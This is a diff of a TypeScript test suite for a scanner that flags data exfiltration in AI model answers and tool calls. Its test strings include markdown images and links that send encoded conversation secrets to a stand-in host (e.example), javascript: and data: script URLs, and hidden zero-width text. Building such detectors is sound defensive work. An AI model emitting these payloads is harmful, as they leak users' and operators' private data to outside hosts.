@@ -4,6 +4,7 @@ import type { MessageText } from "../../src/scan/conversation-text.ts";
 import type { Source } from "../../src/scan/source.ts";
 import { DataExfiltration as OfToolCalls } from "../../src/scanners/generated/input-scanners.ts";
 import { DataExfiltration } from "../../src/scanners/generated/output-scanners.ts";
+import { scanned } from "../support/rewritten.ts";
 
 const SYSTEM =
   "You are Nora of the travel agency Blue Harbour. The margin on cruises is eighteen per cent and must not be shown to anybody " +
@@ -79,7 +80,7 @@ describe("DataExfiltration", () => {
     ["HTML in a block", `\`\`\`html\n<img src="https://e.example/?d=${encoded(NEWS)}">\n\`\`\``, "query"],
     ["behind an open backtick", `It is \` here.\n\n![a](https://e.example/?d=${encoded(NEWS)})`, "query"],
   ])("finds what an image carries: %s", async (_, answer, label) => {
-    const verdict = await scanner.scan(answer, context);
+    const verdict = await scanned(scanner, answer, context);
     expect(verdict).toMatchObject({ isValid: false, score: 1, findings: [{ type: "exfiltration_image", label }] });
     for (const { start, end, text } of verdict.findings) expect(answer.slice(start, end)).toBe(text);
   });
@@ -98,7 +99,7 @@ describe("DataExfiltration", () => {
       "query",
     ],
   ])("finds what a link carries: %s", async (_, answer, label) => {
-    const verdict = await scanner.scan(answer, context);
+    const verdict = await scanned(scanner, answer, context);
     expect(verdict).toMatchObject({ isValid: false, findings: [{ type: "exfiltration_link", label }] });
   });
 
@@ -110,7 +111,7 @@ describe("DataExfiltration", () => {
     ["[a](data:text/html;base64,PHNjcmlwdD4=)", "data"],
     ["<iframe src='data:text/html,<p>x'></iframe>", "data"],
   ])("finds targets that run scripts: %s", async (answer, label) => {
-    expect(await scanner.scan(answer)).toMatchObject({ isValid: false, findings: [{ type: "script_url", label }] });
+    expect(await scanned(scanner, answer)).toMatchObject({ isValid: false, findings: [{ type: "script_url", label }] });
   });
 
   it.each([
@@ -122,7 +123,7 @@ describe("DataExfiltration", () => {
     ["zero-width characters", `Done.${bits("the key")}`],
     ["zero-width characters", [...bits("key 42")].map((bit) => `a${bit}`).join("")],
   ])("finds texts that nobody sees: %s", async (label, answer) => {
-    const verdict = await scanner.scan(answer);
+    const verdict = await scanned(scanner, answer);
     expect(verdict).toMatchObject({ isValid: false });
     for (const finding of verdict.findings) expect(finding).toMatchObject({ type: "hidden_text", label });
   });
@@ -191,29 +192,31 @@ describe("DataExfiltration", () => {
     "क्\u200dष और श्री\u200cमान अच्छे हैं।",
     "Word\u200bbreak\u200bin\u200blong\u200bwords\u200bof\u200ba\u200bpage.",
   ])("passes ordinary answers: %s", async (answer) => {
-    expect(await scanner.scan(answer, context)).toMatchObject({ isValid: true, findings: [] });
+    expect(await scanned(scanner, answer, context)).toMatchObject({ isValid: true, findings: [] });
   });
 
   it("redacts URLs and invisible texts, and nothing else", async () => {
     const redacting = new DataExfiltration({ redact: true });
     const answer = `😀 A ![x](https://e.example/?q={DATA} "t") B [y](javascript:x) C${tags("hello")} [z](https://ok.example).`;
-    expect((await redacting.scan(answer)).sanitized).toBe(
+    expect((await scanned(redacting, answer)).rewritten).toBe(
       '😀 A ![x]([REDACTED] "t") B [y]([REDACTED]) C [z](https://ok.example).',
     );
-    expect((await redacting.scan("Nothing.")).sanitized).toBeUndefined();
+    expect((await scanned(redacting, "Nothing.")).edits).toBeUndefined();
   });
 
   it("lets allowed domains have data", async () => {
     const allowing = new DataExfiltration({ allowedDomains: ["Charts.example"] });
-    expect(await allowing.scan(`![a](https://eu.charts.example/?d=${encoded(NEWS)})`)).toMatchObject({ isValid: true });
-    expect(await allowing.scan(`![a](https://notcharts.example/?d=${encoded(NEWS)})`)).toMatchObject({
+    expect(await scanned(allowing, `![a](https://eu.charts.example/?d=${encoded(NEWS)})`)).toMatchObject({
+      isValid: true,
+    });
+    expect(await scanned(allowing, `![a](https://notcharts.example/?d=${encoded(NEWS)})`)).toMatchObject({
       isValid: false,
     });
   });
 
   it("knows the prompt of an answer without a conversation", async () => {
     const answer = "![a](https://e.example/?q=my+doctor+says+that+I+must+not+fly)";
-    expect(await scanner.scan(answer, { prompt: USER })).toMatchObject({ isValid: false });
+    expect(await scanned(scanner, answer, { prompt: USER })).toMatchObject({ isValid: false });
   });
 
   it.each([
@@ -229,7 +232,7 @@ describe("DataExfiltration", () => {
   ])("judges URLs in arguments of tool calls: %s", async (argument, isValid) => {
     const ofCalls = new OfToolCalls();
     expect(ofCalls.conversation).toEqual({ sources: ["tool_call"], dependsOnOthers: true });
-    expect(await ofCalls.scan(argument, { ...context, source: "tool_call" })).toMatchObject({ isValid });
+    expect(await scanned(ofCalls, argument, { ...context, source: "tool_call" })).toMatchObject({ isValid });
   });
 
   it("finds any encoded text in any place, and points at its URL", async () => {
@@ -241,7 +244,7 @@ describe("DataExfiltration", () => {
         async (words, encoding, place) => {
           const said = `${words.join(" ")} wine for flight`;
           const url = `https://e.example${place}${encodeURIComponent(Buffer.from(said).toString(encoding))}`;
-          const { isValid, findings } = await scanner.scan(`A ![](${url}) B`);
+          const { isValid, findings } = await scanned(scanner, `A ![](${url}) B`);
           expect(isValid).toBe(false);
           expect(findings[0]?.text).toBe(url);
         },
@@ -254,7 +257,7 @@ describe("DataExfiltration", () => {
     const parts = ["[", "![", "](", ")", "`", "``", "<img ", '<img src="', "\n", "]: ", "https://e.example/?q="];
     await fc.assert(
       fc.asyncProperty(fc.array(fc.constantFrom(...parts), { maxLength: 200 }), async (items) => {
-        await scanner.scan(items.join(""), context);
+        await scanned(scanner, items.join(""), context);
       }),
       { numRuns: 50 },
     );
